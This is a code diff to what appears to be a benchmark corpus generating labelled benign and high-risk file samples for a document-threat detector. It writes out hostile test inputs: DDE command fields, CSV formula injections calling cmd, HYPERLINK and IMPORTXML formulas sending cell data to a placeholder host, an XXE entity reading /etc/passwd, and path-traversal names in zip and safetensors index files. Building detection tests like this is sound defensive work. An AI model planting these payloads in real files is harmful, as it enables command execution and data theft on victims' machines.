@@ -1,6 +1,9 @@
 """Office documents old and new, rich text, tables, and other things a double click opens (threats F1)."""
 
+import io
+import json
 import struct
+import zipfile
 from collections.abc import Iterator
 
 from benchmarks.corpus.files import pe
@@ -95,6 +98,7 @@ def samples() -> Iterator[Sample]:
     yield from _zipped()
     yield from _old()
     yield from _rich_text()
+    yield from _flat()
     yield from _tables()
     yield from _others()
 
@@ -127,6 +131,10 @@ def _zipped() -> Iterator[Sample]:
         "simple field": "<w:fldSimple w:instr='DDE cmd echo'/>",
     }.items():
         yield high("document-office", case, "letter.docx", word(field))
+    index = '<w:fldChar w:fldCharType="begin"/><w:instrText> XE "The DDE interface" </w:instrText>'
+    yield benign("document-office", "entry of an index", "letter.docx", word(index))
+    escaped = word("", relation("aFChunk", "https&#58;//files.invalid/a.html"))
+    yield high("document-office", "part from elsewhere", "letter.docx", escaped)
     yield benign("document-office", "number of pages", "letter.docx", word("<w:instrText> PAGE </w:instrText>"))
     link = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c echo'/></externalLink>"
     yield high(
@@ -156,6 +164,8 @@ def _zipped() -> Iterator[Sample]:
 def _old() -> Iterator[Sample]:
     letter = b"\xec\xa5\xc1\0" + bytes(60)
     yield benign("document-old", "letter", "letter.doc", compound(WordDocument=letter))
+    prose = "The DDE interface, and DDEAUTO as well".encode("utf-16-le")
+    yield benign("document-old", "about fields", "letter.doc", compound(WordDocument=letter + prose))
     yield benign("document-old", "table", "table.xls", compound(Workbook=_workbook(0)))
     yield high("document-old", "macros", "letter.doc", compound(WordDocument=letter, _VBA_PROJECT=b"\xcc\x61"))
     yield high("document-old", "macro sheet", "table.xls", compound(Workbook=_workbook(1)))
@@ -181,10 +191,22 @@ def _rich_text() -> Iterator[Sample]:
     yield benign("document-rich", "text", "letter.rtf", "{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}Hello \\b world\\b0.}")
 
 
+def _flat() -> Iterator[Sample]:
+    flat = "<?xml version='1.0'?><office:document xmlns:office='o'>{}</office:document>"
+    yield high(
+        "document-flat", "event", "letter.fodt", flat.format('<l xlink:href="macro:///Standard.Module1.Main()"/>')
+    )
+    yield benign("document-flat", "text", "letter.fodt", flat.format("<text:p>Hello</text:p>"))
+    word_2003 = "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument {}/>"
+    yield high("document-flat", "macros", "letter.xml", word_2003.format('w:macrosPresent="yes"'))
+    yield benign("document-flat", "no macros", "letter.xml", word_2003.format('w:macrosPresent="no"'))
+
+
 def _tables() -> Iterator[Sample]:
     for case, path, content in (
         ("program", "data.csv", "a,b\n1,=cmd|'/c echo'!A0\n"),
         ("program behind a sum", "data.csv", "a\n@SUM(1+1)*cmd|' /C echo'!A0\n"),
+        ("behind numbers", "data.csv", "x\n-1;-2+3+cmd|' /C echo'!D2\n"),
         ("sends", "data.csv", 'a\n"=HYPERLINK(""https://a.invalid/?x=""&A1,""see"")"\n'),
         ("fetches", "data.tsv", 'a\tb\n1\t=IMPORTXML("https://a.invalid/"&B1,"//a")\n'),
         ("old language", "data.slk", 'ID;P\nO;E\nNN;NAuto_open;ER1C1;KOut Flank;F\nC;X1;Y1;K0;EEXEC("echo")\nE\n'),
@@ -222,6 +244,8 @@ def _others() -> Iterator[Sample]:
     yield benign("data", "word2vec", "vectors.bin", b"2 4\nthe " + struct.pack("<4f", 1, 2, 3, 4) + b"\na " + bytes(17))
     yield benign("data", "empty table", "vocab/lookups.bin", b"\x80")
     yield from _hdf5()
+    yield from _indexes()
+    yield from _other_names()
     node = 'node {\n  name: "w"\n  op: "WriteFile"\n}\n'
     yield high("tensorflow", "text, writes a file", "graph.pbtxt", node)
     yield benign("tensorflow", "text, calculates", "graph.pbtxt", node.replace("WriteFile", "MatMul"))
@@ -233,6 +257,26 @@ def _others() -> Iterator[Sample]:
         "model.xml",
         '<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]><n>&x;</n>',
     )
+
+
+def _indexes() -> Iterator[Sample]:
+    for label, part in ((high, "../../other/model.safetensors"), (benign, "model-00001-of-00002.safetensors")):
+        yield label("index", part, "model.safetensors.index.json", json.dumps({"weight_map": {"a.weight": part}}))
+
+
+def _other_names() -> Iterator[Sample]:
+    """Members with a second name (APPNOTE.TXT 4.6.9), which some programs prefer."""
+    for label, name, other in (
+        (high, "a.txt", "../../a.py"),
+        (careful, "a.txt", "a.bat"),
+        (benign, "\xe4.txt", "ä.txt"),
+    ):
+        made = io.BytesIO()
+        with zipfile.ZipFile(made, "w") as archive:
+            info = zipfile.ZipInfo(name)
+            info.extra = struct.pack("<HHBI", 0x7075, 5 + len(other.encode()), 1, 0) + other.encode()
+            archive.writestr(info, b"hello")
+        yield label("archive", f"two names, {other}", "data.zip", made.getvalue())
 
 
 def _hdf5() -> Iterator[Sample]:
